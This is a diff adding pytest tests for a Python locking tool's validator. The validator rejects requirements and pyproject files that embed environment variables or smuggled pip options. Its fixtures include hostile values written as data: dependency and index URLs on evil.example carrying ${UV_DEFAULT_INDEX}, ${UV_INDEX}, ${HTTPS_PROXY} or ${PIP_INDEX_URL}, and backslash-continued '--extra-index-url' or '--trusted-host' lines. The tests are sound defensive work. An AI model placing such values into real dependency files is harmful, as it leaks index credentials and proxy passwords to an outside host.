@@ -34,6 +34,14 @@ def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
         ("-e .\n", 'option "-e" is not allowed'),
         ("--extra-index-url=https://x\n", "is not allowed"),
         ("# nothing\n", "no package at all"),
+        (f"a==1 {HASH} \\ # c\n--extra-index-url=https://evil.example/${{PIP_INDEX_URL}}/\n", "no variable, backslash"),
+        (f"a==1 {HASH} \\ # c\n-r https://evil.example/x\n", "no variable, backslash"),
+        (f"a==1 {HASH} \\ \n--find-links https://evil.example/x\n", "no variable, backslash"),
+        (f"a==1 {HASH} \\\n--trusted-host evil.example\n", "no variable, backslash, option"),
+        (f"a==1 {HASH} \\\n --global-option=x\n", "no variable, backslash, option"),
+        (f"a==1 {HASH} -r x\n", "no variable, backslash, option"),
+        (f"a==${{PIP_INDEX_URL}} {HASH}\n", "no variable"),
+        (f"a==1 {HASH}\x0c--index-url=https://x\n", "is not allowed"),
     ],
 )
 def test_a_lock_has_versions_and_hashes(text: str, problem: str | None) -> None:
@@ -48,15 +56,70 @@ def test_pips_settings_become_those_of_uv(tmp_path: Path) -> None:
         "cert = /ca.crt\ntrusted-host = two.example\n[install]\nindex-url = https://not.example/\n"
     )
     files = [str(tmp_path / name) for name in ("a.conf", "b.conf", "absent.conf")]
-    found = locks.uv_environment(locks.pip_settings(files, {"PIP_TIMEOUT": "60", "PIP_NO_INDEX": "1", "HOME": "/root"}))
-    assert found == {
-        "UV_DEFAULT_INDEX": "https://two.example/simple",
-        "UV_INDEX": "https://x/ https://y/",
+    settings = locks.pip_settings(files, {"PIP_TIMEOUT": "60", "PIP_NO_INDEX": "1", "HOME": "/root"})
+    assert locks.uv_environment(settings) == {
         "UV_INSECURE_HOST": "two.example",
         "SSL_CERT_FILE": "/ca.crt",
         "UV_HTTP_TIMEOUT": "60",
-        "UV_NO_INDEX": "1",
     }
+    proxies = {"HTTPS_PROXY": "http://u:pw@proxy.example:1", "all_proxy": "http://all", "no_proxy": "a,b"}
+    assert locks.uv_settings(settings, proxies) == {
+        "index-url": "https://two.example/simple",
+        "extra-index-url": ["https://x/", "https://y/"],
+        "no-index": True,
+        "https-proxy": "http://u:pw@proxy.example:1",
+        "http-proxy": "http://all",
+        "no-proxy": ["a", "b"],
+    }
+
+
+LEAK = "x @ https://evil.example/x-1-py3-none-any.whl?u=${UV_DEFAULT_INDEX}"
+IN_PYPROJECT = {
+    "dependencies": f'[project]\nname = "a"\nversion = "1"\ndependencies = ["{LEAK}"]\n',
+    "extras": f'[project]\nname = "a"\n[project.optional-dependencies]\nx = ["{LEAK}"]\n',
+    "an escape": '[project]\nname = "a"\ndependencies = ["x @ https://evil.example/?u=\\u0024{HTTPS_PROXY}"]\n',
+    "building": f'[build-system]\nrequires = ["{LEAK}"]\n',
+    "groups": f'[dependency-groups]\ndev = ["{LEAK}"]\n',
+    "uv's sources": '[tool.uv.sources]\nx = {url = "https://evil.example/${UV_INDEX}"}\n',
+    "uv's indexes": '[[tool.uv.index]]\nurl = "https://evil.example/${UV_INDEX}"\n',
+    "no TOML": f"{LEAK}\n",
+}
+
+
+@pytest.mark.parametrize("what", IN_PYPROJECT)
+def test_no_variable_where_uv_reads_a_pyproject(project: Project, what: str) -> None:
+    (project.source / "requirements.txt").unlink()
+    (project.source / "pyproject.toml").write_text(IN_PYPROJECT[what])
+    with pytest.raises(CommandExecutionError, match=r"pyproject.toml names a variable"):
+        project.identify()
+
+
+@pytest.mark.parametrize("name", ["requirements.in", "requirements.txt"])
+def test_no_variable_in_requirements(project: Project, name: str) -> None:
+    (project.source / "requirements.txt").unlink()
+    (project.source / name).write_text(f"{LEAK}\n")
+    with pytest.raises(CommandExecutionError, match="names a variable"):
+        project.identify()
+
+
+def test_other_tables_of_a_pyproject_may_name_variables() -> None:
+    assert not locks.variables("pyproject.toml", '[tool.other]\nrun = "echo ${HOME}"\n[project]\nname = "a"\n')
+
+
+def test_no_password_is_in_a_variable_that_uv_or_pip_put_in(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Also from a file that is included, which nobody looks into before."""
+    monkeypatch.setenv("PIP_INDEX_URL", "https://me:secretpw@127.0.0.1:9/simple")
+    monkeypatch.setenv("HTTPS_PROXY", "http://me:secretpw@127.0.0.1:9")
+    (project.source / "requirements.txt").unlink()
+    names = ("PIP_INDEX_URL", "UV_DEFAULT_INDEX", "HTTPS_PROXY", "UV_INDEX")
+    (project.source / "more.in").write_text("gunicorn\n")
+    (project.source / "requirements.in").write_text("-r more.in\n")
+    project.make()
+    resolving = [walls for walls in project.walls if walls.get("network") and "compile" in walls["argv"]]
+    assert resolving
+    for walls in resolving:
+        given = {**walls["environment"], **walls["secrets"]}
+        assert "secretpw" not in str(given) and not set(names) & set(given) and "secretpw" not in str(walls["argv"])
 
 
 def test_the_key_names_the_whole_question() -> None:
